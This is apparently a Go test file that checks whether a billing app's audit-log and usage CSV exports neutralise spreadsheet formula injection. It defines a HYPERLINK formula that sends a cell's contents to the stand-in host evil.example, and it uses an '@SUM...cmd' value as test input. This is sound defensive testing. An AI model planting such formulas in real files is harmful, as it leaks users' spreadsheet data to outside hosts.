package web_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed75218f88/credits/internal/auth"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"open")`

// TestCSVExportsNeutraliseFormulas: text a customer or staff member typed —
// a freeze reason in the audit log, a session id in the usage export —
// reaches the CSV as text a spreadsheet will not run.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()

	t.Run("AuditLog", func(t *testing.T) {
		b := setupAdmin(t)
		support := b.staff(t, "csvsup", auth.RoleSupport)
		_, cust := b.register(t, uniqEmail("csvinj"), "Injected")
		page := fmt.Sprintf("/admin/customers/%d", cust.AccountID)
		support.Get(page)
		support.PostForm(page+"/freeze", url.Values{"reason": {formula}})
		admin := b.staff(t, "csvadm", auth.RoleAdmin)
		res := admin.Get(fmt.Sprintf("/admin/audit.csv?account=%d", cust.AccountID))
		require.Equal(t, http.StatusOK, res.Status)
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\uFEFF"))).ReadAll()
		require.NoError(t, err)
		found := false
		for _, rec := range recs {
			for _, cell := range rec {
				require.NotRegexp(t, `^[=+@\t\r]`, cell, "a cell a spreadsheet would run")
				if cell == "'"+formula {
					found = true
				}
			}
		}
		require.True(t, found, "the reason is in the export as text: %q", res.Body)
	})

	t.Run("PortalUsage", func(t *testing.T) {
		b := setupAPI(t, apiOpts{})
		ext := b.account(b.live, uniq(t, "csv"), map[string]any{"verification": verified})
		b.grant(b.live, ext, "1000", "g")
		b.usageEvent(t, ext, "@SUM(1+1)*cmd", "deepseek-chat", formula, 1000, 0)
		res := b.portalOf(t, ext).Get("/portal/usage.csv")
		require.Equal(t, http.StatusOK, res.Status)
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body, "\uFEFF"))).ReadAll()
		require.NoError(t, err)
		require.Len(t, recs, 2)
		require.Contains(t, recs[1], "'"+formula, "session id")
		require.Contains(t, recs[1], "'@SUM(1+1)*cmd", "request id")
		require.Contains(t, recs[1], "2.000000", "amounts stay as they are")
	})
}
